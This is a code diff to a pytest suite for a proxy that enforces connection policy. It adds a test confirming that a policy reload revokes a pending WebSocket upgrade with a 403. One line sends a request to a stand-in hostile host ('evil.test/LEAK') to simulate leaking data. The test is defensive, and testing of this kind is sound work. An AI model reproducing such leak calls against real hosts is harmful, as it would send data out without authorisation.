@@ -12,7 +12,7 @@ import time
 import pytest
 
 from mirrorlib import Run
-from stilelib import PYTHON, TIMEOUT, Peer, Raw, Stile, allow, check_refusal, clean_env, wait_for
+from stilelib import PYTHON, TIMEOUT, Peer, Raw, Stile, allow, check_refusal, clean_env, get, wait_for
 
 KEY = "dGhlIHNhbXBsZSBub25jZQ=="
 ACCEPT = "s3pPLMBiTxaQ9kYGzzhZRbK+xOo="  # RFC 6455 section 1.3
@@ -316,10 +316,13 @@ def test_idle_and_life(stile, limit, error):
         assert end["ms"]["total"] > (500 if error == "tunnel_life" else 800)
 
 
-@pytest.mark.parametrize("after", [
+TAKES_IT_BACK = [
     [allow("http://origin.test:*")], [allow("ws://origin.test:*/ws/b")],
     [{"allow": "ws://origin.test:*/ws/**"}],  # the address is not admitted any more
-    [allow("ws://origin.test:*"), {"deny": "http://origin.test:*/ws/a"}], [allow("ws://origin.test:*"), {"deny": "tcp://origin.test:*"}]])
+    [allow("ws://origin.test:*"), {"deny": "http://origin.test:*/ws/a"}], [allow("ws://origin.test:*"), {"deny": "tcp://origin.test:*"}]]
+
+
+@pytest.mark.parametrize("after", TAKES_IT_BACK)
 def test_a_reload_takes_it_back(stile, after):
     s = stile(rules=rules())
     with Peer() as p:
@@ -337,6 +340,31 @@ def test_a_reload_takes_it_back(stile, after):
             assert end["error"] == "policy_revoked"
         for x in (c, o, other, far):
             x.close()
+
+
+@pytest.mark.parametrize("after", TAKES_IT_BACK)
+def test_a_reload_before_the_origin_s_yes(stile, after):
+    """It is a request until then, which a reload does not ask after, and would be a WebSocket that no rule admits."""
+    s = stile(rules=rules())
+    with Peer() as p, s.client() as c, s.client() as kept:
+        c.send(clear(p.port) + get(f"http://evil.test:{p.port}/LEAK"))
+        o = p.accept()
+        o.read_head()
+        s.reload(rules=after)
+        o.send(yes() + b"LEAK")
+        check_refusal(c.response(), 403, "policy_revoked")
+        check_refusal(c.response(), 403)  # what came behind it is no WebSocket's
+        assert o.read_all() == b""
+        end = s.wait_record(event="request.end")
+        assert (end["error"], end["status"], end.get("bytes_in", 0)) == ("policy_revoked", 403, 0)
+        s.reload(rules=rules())
+        kept.send(clear(p.port))
+        with p.accept() as far:
+            far.read_head()
+            s.reload(rules=[*rules(), {"deny": "ws://origin.test:*/else"}])
+            far.send(yes() + b"hello")
+            assert kept.response_head().status == 101 and kept.read(5) == b"hello"
+        o.close()
 
 
 def test_a_credential_that_is_taken_back(stile, canary, tmp_path):
